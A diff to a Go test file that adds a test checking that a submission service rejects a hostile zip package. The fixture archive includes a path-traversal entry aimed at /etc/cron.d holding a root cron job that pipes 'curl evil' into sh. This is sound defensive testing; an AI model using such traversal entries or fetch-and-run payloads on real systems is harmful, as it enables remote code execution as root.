@@ -1,6 +1,7 @@
 package main
 
 import (
+	"archive/zip"
 	"bytes"
 	"context"
 	"crypto/sha256"
@@ -523,4 +524,34 @@ func TestOperatorRetriesAFailedSubmission(t *testing.T) {
 	require.Equal(t, http.StatusConflict, code, "an approved submission is not retried")
 	code, _ = s.act(t, lin, "/v1/submissions/"+id+"/retry", "")
 	require.Equal(t, http.StatusForbidden, code)
+}
+
+func TestHostileArchiveIsRejectedNotFailed(t *testing.T) {
+	t.Parallel()
+	s := startStack(t, 8<<20)
+	lin := s.demo.tokens["lin-verified"]
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for name, body := range map[string]string{
+		"app.json":             `{"pages":["pages/index/index"]}`,
+		"pages/index/index.js": "Page({});",
+		"../../etc/cron.d/x":   "* * * * * root sh -c 'curl evil | sh'",
+	} {
+		w, err := zw.Create(name)
+		require.NoError(t, err)
+		_, err = w.Write([]byte(body))
+		require.NoError(t, err)
+	}
+	require.NoError(t, zw.Close())
+	resp, created := s.upload(t, lin, s.appOf("lin-verified"), "6.6.6", buf.Bytes(), "")
+	require.Equal(t, http.StatusAccepted, resp.StatusCode)
+	sub := s.settle(t, lin, created["id"].(string))
+	require.Equal(t, "rejected", string(sub.State), "a hostile package is the developer's problem, not our fault")
+	var pkg []string
+	for _, c := range codes(sub) {
+		if strings.HasPrefix(c, "PKG-") {
+			pkg = append(pkg, c)
+		}
+	}
+	require.NotEmpty(t, pkg, "the reason names the archive rule: %v", codes(sub))
 }
